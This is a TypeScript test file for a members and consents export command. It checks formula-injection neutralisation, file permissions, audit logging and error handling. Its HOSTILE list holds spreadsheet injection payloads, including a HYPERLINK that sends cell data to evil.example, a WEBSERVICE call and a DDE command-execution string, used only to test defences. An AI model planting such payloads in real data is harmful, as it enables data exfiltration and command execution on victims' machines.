import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, globSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openSession } from "../../cli/d1-session.ts";
import { consentsExport, type ExportedConsent } from "../../src/accounts/consents-export.ts";
import { type RunQuery, writtenRows } from "../../src/accounts/exported-rows.ts";
import { type MemberFilter, membersExport } from "../../src/accounts/members-export.ts";
import { runCommand } from "./command-under-test.ts";
import { makeLocalState } from "./local-state.ts";

const ROOT = join(import.meta.dirname, "../..");
/** 2026-11-22T12:00:00Z */
const AT = 1_795_348_800;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "consents-export-"));
});
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

/** What people have tried to make spreadsheets run, and what a program with other settings might find in a text. */
const HOSTILE = [
  "=1+1",
  "+47 999 99 901",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  '"=1+1',
  'a";=1+1;"',
  "a,=1+1",
  "a;=1+1",
  "a|=1+1",
  "a\n=1+1",
  "a\u2028=1+1",
  "＝1+1",
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example/")',
  '=DDE("soffice";"x";"y")',
  "'=1+1",
  "",
];

function openDatabase(): {
  readonly database: DatabaseSync;
  readonly run: RunQuery;
  readonly asked: string[];
} {
  const database = new DatabaseSync(":memory:");
  for (const file of globSync(join(ROOT, "migrations/*.sql")).sort())
    database.exec(readFileSync(file, "utf8"));
  const asked: string[] = [];
  const run: RunQuery = async (sql, params) => {
    const plan = database.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...params);
    asked.push(plan.map(({ detail }) => String(detail)).join("; "));
    return database.prepare(sql).all(...params);
  };
  return { database, run, asked };
}

function insertAccount(database: DatabaseSync, id: string, name: string, site = "default"): void {
  database
    .prepare(
      "INSERT INTO accounts (site, id, name, email, phone, origin, created_at, updated_at) VALUES (?, ?, ?, ?, ?, 'vipps', 1, 1)",
    )
    .run(site, id, name, `${id}@example.com`, "4799999901");
}

function insertConsent(
  database: DatabaseSync,
  account: string,
  consent: string,
  granted: number,
  wording: string,
  site = "default",
): void {
  database
    .prepare(
      "INSERT INTO consents (site, account_id, consent, granted, required, source, wording, language, answered_at) VALUES (?, ?, ?, ?, 0, 'vipps', ?, 'nb', ?)",
    )
    .run(site, account, consent, granted, wording, AT);
}

async function written(
  run: RunQuery,
  options: { history?: boolean; portion?: number; format?: "csv" | "json" },
) {
  const { history = false, portion = 1_000, format = "csv" } = options;
  let text = "";
  for await (const piece of writtenRows(consentsExport(run, { site: "default", history, portion }), format))
    text += piece;
  return text;
}

const readCsv = (text: string): Record<string, string>[] =>
  parse(text, { columns: true, bom: true, relax_column_count: false });

describe("the export of members", () => {
  it("has everybody once, or those whom the choice fits, in portions of any size, with no cell a formula", async () => {
    const { database, run } = openDatabase();
    for (const [index, text] of HOSTILE.entries())
      insertAccount(database, `acc_${String(index).padStart(2, "0")}`, text);
    const ids = HOSTILE.map((_text, index) => `acc_${String(index).padStart(2, "0")}`);
    const board = ids.filter((_id, index) => index % 3 === 0);
    for (const id of board)
      database.prepare("UPDATE accounts SET groups = '[\"board\"]' WHERE id = ?").run(id);
    // Everybody has said no first, then some yes, and some of those no again.
    for (const granted of [0, 1, 0])
      for (const [index, id] of ids.entries())
        if (granted === 0 ? index % 4 === 0 || granted < index % 2 : index % 2 === 0)
          insertConsent(database, id, "news", granted, "w");
    const said = (wanted: boolean) =>
      ids.filter((id) => {
        const row = database
          .prepare("SELECT granted FROM consents WHERE account_id = ? ORDER BY id DESC LIMIT 1")
          .get(id);
        return row !== undefined && (row.granted === 1) === wanted;
      });
    const cases: readonly (readonly [MemberFilter, readonly string[]])[] = [
      [{}, ids],
      [{ group: "board" }, board],
      [{ group: "nobody" }, []],
      [{ answer: { consent: "news", granted: true } }, said(true)],
      [{ answer: { consent: "news", granted: false } }, said(false)],
      [
        { group: "board", answer: { consent: "news", granted: true } },
        said(true).filter((id) => board.includes(id)),
      ],
    ];
    for (const [filter, expected] of cases) {
      for (const portion of [1, 2, 5, 1_000]) {
        let text = "";
        const pieces = writtenRows(membersExport(run, { site: "default", filter, portion }), "csv");
        for await (const piece of pieces) text += piece;
        const rows = readCsv(text);
        expect(
          rows.map((row) => row.account_id),
          JSON.stringify([filter, portion]),
        ).toEqual(expected);
        for (const cell of text.split("\r\n").flatMap((line) => line.split(",")))
          expect(cell.replace(/^["\ufeff]+/, "")).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }
    }
    expect(said(true).length).toBeGreaterThan(0);
    expect(said(false).length).toBeGreaterThan(0);
  });
});

describe("the export of consents", () => {
  it("has one row for each person and consent as of now, or every answer, in portions of any size", async () => {
    const { database, run, asked } = openDatabase();
    for (const person of ["acc_a", "acc_b", "acc_c"]) {
      insertAccount(database, person, `Person ${person}`);
      for (const granted of [1, 0, 1])
        insertConsent(database, person, "vipps:news", granted, `Words ${granted}`);
      insertConsent(database, person, "sms", 0, "SMS");
    }
    insertConsent(database, "acc_gone", "sms", 1, "SMS");
    database.exec(`INSERT INTO identities (site, msn, sub, account_id, linked_at, linked_by, consent_revoked_at)
      VALUES ('default', '1', 'a', 'acc_a', 1, 'created', NULL), ('default', '1', 'b', 'acc_b', 1, 'created', ${AT})`);
    insertConsent(database, "acc_a", "other", 1, "Of another site", "other.example");
    const whole = readCsv(await written(run, {}));
    expect(whole.map((row) => `${row.account_id} ${row.consent} ${row.granted}`)).toEqual([
      "acc_a sms no",
      "acc_a vipps:news yes",
      "acc_b sms no",
      "acc_b vipps:news yes",
      "acc_c sms no",
      "acc_c vipps:news yes",
      "acc_gone sms yes",
    ]);
    expect(whole[1]).toEqual({
      account_id: "acc_a",
      name: "Person acc_a",
      email: "acc_a@example.com",
      // As the import reads it, and a spreadsheet as no sum.
      phone: "'+4799999901",
      member_number: "",
      consent: "vipps:news",
      granted: "yes",
      required: "no",
      wording: "Words 1",
      language: "nb",
      source: "vipps",
      answered_at: "2026-11-22T12:00:00.000Z",
      access_removed_at: "",
    });
    expect(whole.map((row) => row.access_removed_at)).toEqual(
      whole.map((row) => (row.account_id === "acc_b" ? "2026-11-22T12:00:00.000Z" : "")),
    );
    const history = JSON.parse(await written(run, { history: true, format: "json" })) as ExportedConsent[];
    expect(history).toHaveLength(13);
    for (const portion of [1, 2, 3, 7, 8]) {
      expect(readCsv(await written(run, { portion })), `portions of ${portion}`).toEqual(whole);
      expect(JSON.parse(await written(run, { portion, history: true, format: "json" }))).toEqual(history);
    }
    // Each portion begins where the last one ended: nothing is read twice, sorted or kept.
    for (const plan of new Set(asked)) {
      expect(plan).toContain("consents USING INDEX consents_by_account (site=? AND (account_id,consent");
      expect(plan).not.toMatch(/SCAN|TEMP B-TREE/);
    }
  });

  it("is an empty table, or an empty list, where nobody has answered", async () => {
    const { run } = openDatabase();
    expect(readCsv(await written(run, {}))).toEqual([]);
    expect(JSON.parse(await written(run, { format: "json" }))).toEqual([]);
  });

  function hostileTable() {
    const { database, run } = openDatabase();
    HOSTILE.forEach((text, index) => {
      insertAccount(database, `acc_${String(index).padStart(2, "0")}`, text);
      insertConsent(database, `acc_${String(index).padStart(2, "0")}`, "news", 1, text);
    });
    return run;
  }

  it("holds no cell that could be a formula, whatever stands between the cells", async () => {
    const text = await written(hostileTable(), {});
    const rows = readCsv(text);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const delimiter of [",", ";", "\t", "|"]) {
      // As programs read it that take another character for the end of a cell, and quotes for nothing special.
      for (const cell of text.split("\r\n").flatMap((line) => line.split(delimiter)))
        expect(cell.replace(/^["\ufeff]+/, ""), `${delimiter} ${cell}`).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    }
    // Text that is nothing of the kind is left alone.
    const { database, run } = openDatabase();
    insertConsent(database, "acc_a", "news", 1, 'Nyheter, "tilbud" – og e-post; én gang i uka');
    expect(readCsv(await written(run, {}))[0]?.wording).toBe('Nyheter, "tilbud" – og e-post; én gang i uka');
  });

  it("says in JSON exactly what is kept", async () => {
    const rows = JSON.parse(await written(hostileTable(), { format: "json" })) as ExportedConsent[];
    expect(rows.map(({ wording }) => wording)).toEqual(HOSTILE);
  });

  const office = spawnSync("soffice", ["--version"], { encoding: "utf8" });
  const hasOffice = office.status === 0;
  if (!hasOffice)
    console.warn("LEFT OUT: LibreOffice is not installed, so no spreadsheet program opens the export.");

  it.runIf(hasOffice)(
    "opens in LibreOffice with every cell a text and nothing executed",
    { timeout: 180_000 },
    async () => {
      const csv = join(folder, "consents.csv");
      writeFileSync(csv, await written(hostileTable(), {}));
      // A sheet with a real formula shows that one would have been seen.
      const control = join(folder, "control.csv");
      writeFileSync(control, "a\r\n=1+1\r\n");
      for (const [files, separator] of [
        [[csv, control], "44"],
        [[csv], "59"],
      ] as const) {
        execFileSync(
          "soffice",
          [
            "--headless",
            `-env:UserInstallation=file://${join(folder, "profile")}`,
            // Separator, quote, UTF-8, from line 1, and formulas evaluated where they are taken for such.
            `--infilter=CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`,
            "--convert-to",
            "fods",
            "--outdir",
            folder,
            ...files,
          ],
          { stdio: "ignore", timeout: 120_000 },
        );
        for (const file of files) {
          const sheet = readFileSync(file.replace(/csv$/, "fods"), "utf8");
          const isControl = file === control;
          expect(/table:formula=/.test(sheet), `${file} ${separator}`).toBe(isControl);
          expect(sheet).not.toMatch(/<text:a |DDE-?link|xlink:href="https?:\/\/evil/i);
          if (!isControl) expect(sheet).toContain("HYPERLINK");
        }
      }
    },
  );

  it("is a command, whose file only its owner can read, and which the audit log notes", {
    timeout: 120_000,
  }, async () => {
    const persistTo = join(folder, "state");
    await makeLocalState(persistTo);
    const target = { root: ROOT, remote: false, environment: undefined, persistTo };
    const add = await openSession(target);
    await add.batch([
      {
        sql: "INSERT INTO consents (site, account_id, consent, granted, source, wording, answered_at) VALUES ('default', 'acc_a', 'news', 1, 'login', 'Nyheter', ?1)",
        params: [AT],
      },
      ...["a", "b", "c"].map((one) => ({
        sql: `INSERT INTO accounts (site, id, name, search_name, groups, origin, created_at, updated_at)
          VALUES ('default', 'acc_${one}', '=Person ${one}', 'person ${one}', ?2, 'import', ?1, ?1)`,
        params: [AT, one === "c" ? "[]" : '["board","trainers"]'],
      })),
    ]);
    await add.close();
    const file = join(folder, "out.csv");
    writeFileSync(file, "old", { mode: 0o644 });
    const run = (...args: string[]) => runCommand(["consents", "export", ...args]);
    const done = await run(file, "--persist-to", persistTo, "--json");
    expect(done.stderr).toBe("");
    expect(JSON.parse(done.stdout)).toMatchObject({ file, format: "csv", history: false, rows: 1 });
    expect(readCsv(readFileSync(file, "utf8"))).toMatchObject([
      { account_id: "acc_a", consent: "news", granted: "yes" },
    ]);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const look = await openSession(target);
    const [audit] = await look.batch([
      { sql: "SELECT actor, actor_role, action, details FROM audit_log", params: [] },
    ]);
    await look.close();
    expect(audit?.rows).toEqual([
      {
        actor: "consents:export",
        actor_role: "system",
        action: "exported",
        details: '{"list":"consents","consents":"current","format":"csv"}',
      },
      {
        actor: "consents:export",
        actor_role: "system",
        action: "exported",
        details: '{"list":"consents","consents":"current","format":"csv","rows":1}',
      },
    ]);

    const list = join(folder, "members.csv");
    const takeOut = (...args: string[]) =>
      runCommand(["members", "export", list, "--persist-to", persistTo, "--json", ...args]);
    for (const [args, ids] of [
      [[], ["acc_a", "acc_b", "acc_c"]],
      [
        ["--group", "Board"],
        ["acc_a", "acc_b"],
      ],
      [["--group", "board", "--consent", "news"], ["acc_a"]],
      [["--consent", "news", "--answer", "no"], []],
    ] as const) {
      const taken = await takeOut(...args);
      expect(taken.stderr).toBe("");
      expect(JSON.parse(taken.stdout)).toMatchObject({ file: list, format: "csv", rows: ids.length });
      expect(readCsv(readFileSync(list, "utf8")).map((row) => row.account_id)).toEqual(ids);
    }
    expect((await takeOut()).code).toBe(0);
    const [first] = readCsv(readFileSync(list, "utf8"));
    expect(first).toMatchObject({
      name: "'=Person a",
      groups: "board, trainers",
      phone: "",
      origin: "import",
    });
    expect(statSync(list).mode & 0o777).toBe(0o600);
    const lookAgain = await openSession(target);
    const [deeds] = await lookAgain.batch([
      { sql: "SELECT details FROM audit_log WHERE actor = 'members:export' ORDER BY id LIMIT 4", params: [] },
    ]);
    await lookAgain.close();
    expect(deeds?.rows.map(({ details }) => details)).toEqual([
      '{"list":"members","format":"csv"}',
      '{"list":"members","format":"csv","rows":3}',
      '{"list":"members","group":"board","format":"csv"}',
      '{"list":"members","group":"board","format":"csv","rows":2}',
    ]);
    // What nobody is in, and nobody has answered, is mistyped: no list of nobody.
    const missing = join(folder, "missing.csv");
    for (const args of [
      ["--group", "bord"],
      ["--consent", "new"],
      ["--group", "board", "--consent", "new"],
    ])
      expect(await runCommand(["members", "export", missing, "--persist-to", persistTo, ...args])).toEqual({
        ...{ code: 1, stdout: "" },
        stderr: expect.stringMatching(
          /^Nobody (is in a group "bord"|has answered a consent "new")\. Nothing was/,
        ),
      });
    expect(existsSync(missing)).toBe(false);
    expect(
      await runCommand(["members", "export", join(missing, "a.csv"), "--persist-to", persistTo]),
    ).toEqual({
      ...{ code: 2, stdout: "" },
      stderr: expect.stringContaining(`There is no folder ${missing}.`),
    });
    const mistyped = join(folder, "no-storage");
    expect(await run(join(folder, "nobody.csv"), "--persist-to", mistyped)).toEqual({
      ...{ code: 2, stdout: "" },
      stderr: expect.stringContaining(`There is no folder ${mistyped}.`),
    });
    expect(existsSync(mistyped)).toBe(false);
    expect(await run(folder, "--persist-to", persistTo)).toMatchObject({
      ...{ code: 2, stderr: expect.stringContaining("is a folder, not a file") },
    });
    for (const wrong of [
      ...[[], ["a", "b"], ["a", "--answer", "maybe"], ["a", "--group", "=1"]],
      ["a", "--group", "board", "--answer", "no"],
    ])
      expect(await runCommand(["members", "export", ...wrong])).toMatchObject({ code: 2, stdout: "" });
    for (const wrong of [[], ["a", "b"], ["a", "--format", "xlsx"]])
      expect(await run(...wrong)).toMatchObject({ code: 2, stdout: "" });
    // As a spreadsheet expects it where a comma stands in decimals.
    expect((await run(file, "--persist-to", persistTo, "--semicolons")).code).toBe(0);
    const rows = parse(readFileSync(file, "utf8"), { bom: true, columns: true, delimiter: ";" });
    expect(rows).toMatchObject([{ account_id: "acc_a", consent: "news", granted: "yes" }]);
  });
});
